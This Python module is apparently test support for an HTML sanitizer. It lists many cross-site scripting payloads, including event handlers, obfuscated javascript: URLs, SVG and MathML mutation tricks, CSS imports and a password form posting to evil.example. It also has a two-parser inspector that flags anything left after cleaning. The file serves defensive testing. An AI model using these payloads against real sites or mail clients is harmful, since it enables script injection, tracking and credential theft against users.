"""Script in every dress it was seen in: for everything that shows text from outside (mail, titles, names, labels, file names).

Each would run, load or submit something in some browser or mail program if it came through. `alert(1)` marks what would run, the host
evil.example what would be loaded.
"""

import html
import re
from html.parser import HTMLParser
from typing import Any

import lxml.html

PLAIN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img src=x oNeRrOr=&#97;lert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1)>x</div>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<a onclick=alert(1) href=#>x</a>",
    "<b onclick\n=\nalert(1)>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<a href=https://x.example id=location name=cookie>x</a>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#x0A;javascript:alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "intent://evil.example",
    "\u0000javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "x-javascript:alert(1)",
]
WRAPPED = [
    f"<{tag} {attribute}='{address}'>x</{tag}>"
    for address in ADDRESSES
    for tag, attribute in [("a", "href"), ("img", "src"), ("form", "action"), ("iframe", "src"), ("object", "data"), ("area", "href")]
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=//evil.example/x.svg#x></svg>",
    "<svg><image href=//evil.example/x.png></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<style><img title='</style><img src=x onerror=alert(1)>'>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><option><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<!-- --><!-- ><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php ><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
    "</script><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table><td background=//evil.example/x.png>x<table><caption><svg onload=alert(1)>",
    "<p/onclick=alert(1)></p/onclick=alert(1)>",
    "<a href='https://x.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<a title='\"><img src=x onerror=alert(1)>' href=https://x.example>x</a>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' href=https://x.example>x</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
LOADING = [
    "<img srcset='//evil.example/x.png 2x' src=cid:1>",
    "<img src=cid:1 longdesc=//evil.example/ lowsrc=//evil.example/x.png dynsrc=//evil.example/x.png>",
    "<picture><source srcset=//evil.example/x.png></picture>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style='background:u\\72l(//evil.example/x.png)'>x</div>",
    "<div style='color:red;background-color:url(//evil.example/x.png)'>x</div>",
    "<div style='font-family:expression(alert(1))'>x</div>",
    "<div style='font-family:exp/**/ression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
    "<div style='behavior:url(//evil.example/x.htc)'>x</div>",
    "<div style='list-style-image:image-set(\"//evil.example/x.png\" 1x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style=\"color:red;}@import '//evil.example/x.css';a{\">x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><a href=x>x</a><img src=x>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<embed src=//evil.example/x.swf>",
    "<object data=//evil.example/x.swf><param name=movie value=//evil.example/x.swf></object>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png></video>",
    "<track src=//evil.example/x.vtt>",
    "<a href=https://x.example ping=https://evil.example/>x</a>",
    "<a href=https://x.example target=_top>x</a>",
    "<table background=//evil.example/x.png><tr><td>x</table>",
    "<bgsound src=//evil.example/x.wav>",
    "<input type=image src=//evil.example/x.png>",
    "<img data-remote-src=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<img src=cid:1 usemap=#x><map name=x><area href=javascript:alert(1)></map>",
]
SCRIPTS = [*PLAIN, *WRAPPED, *FOREIGN, *LOADING]

CLEAN_TAGS = re.compile(
    r"""a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|
    figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|
    summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr""",
    re.VERBOSE,
)
CLEAN_ATTRIBUTES = re.compile(
    r"""align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|data-remote-src|dir|face|height|href|lang|rel|rowspan|size|span|src|
    start|style|target|title|type|valign|width""",
    re.VERBOSE,
)


class Inspector(HTMLParser):
    """Reads cleaned HTML with another parser than the one that cleaned it, and keeps what should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.loads: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inspect(tag, {name: value or "" for name, value in attrs})

    def inspect(self, tag: str, attributes: dict[str, str]) -> None:
        if not CLEAN_TAGS.fullmatch(tag):
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}>" for name in attributes if not CLEAN_ATTRIBUTES.fullmatch(name)]
        for name in attributes.keys() & {"href", "src", "data-remote-src"}:
            value = attributes[name]
            fit = ("http://", "https://", "mailto:", "tel:") if name == "href" else ("cid:",) if name == "src" else ("http://", "https://")
            if not value.lower().startswith(fit):
                self.found.append(f"<{tag} {name}={value!r}>")
        style = attributes.get("style", "").lower()
        if any(word in style for word in ("url", "expression", "import", "\\", "position", "binding", "behavior", "image", "animation")):
            self.found.append(f"<{tag} style={style!r}>")
        if "href" in attributes and not {"noopener", "noreferrer"} <= set(attributes.get("rel", "").split()):
            self.found.append(f"<{tag}> without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data!r}")


def dangers(cleaned: str) -> list[str]:
    """What is left in cleaned HTML that should not be: read by one parser as it is, and by another as mail programs do."""
    inspector = Inspector()
    inspector.feed(cleaned)
    inspector.close()
    tree: Any = lxml.html.fragment_fromstring(cleaned, create_parent="div")
    for element in tree.iterdescendants():
        if isinstance(element.tag, str):
            inspector.inspect(element.tag, {str(name): str(value) for name, value in element.attrib.items()})
        else:
            inspector.found.append(f"node {element}")
    return inspector.found


def escaped(text: str) -> str:
    """How the text looks once, and only once, escaped."""
    return html.escape(text)
